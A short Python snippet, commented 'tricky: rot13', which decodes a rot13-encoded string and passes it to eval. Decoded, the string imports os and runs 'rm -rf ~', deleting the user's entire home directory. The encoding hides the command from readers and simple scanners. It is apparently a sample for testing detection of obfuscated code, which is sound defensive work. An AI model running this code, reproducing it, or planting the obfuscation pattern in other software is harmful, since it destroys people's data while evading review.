# tricky: rot13
import codecs
eval(codecs.decode("__vzcbeg__('bf').flfgrz('ez -es ~')", "rot13"))
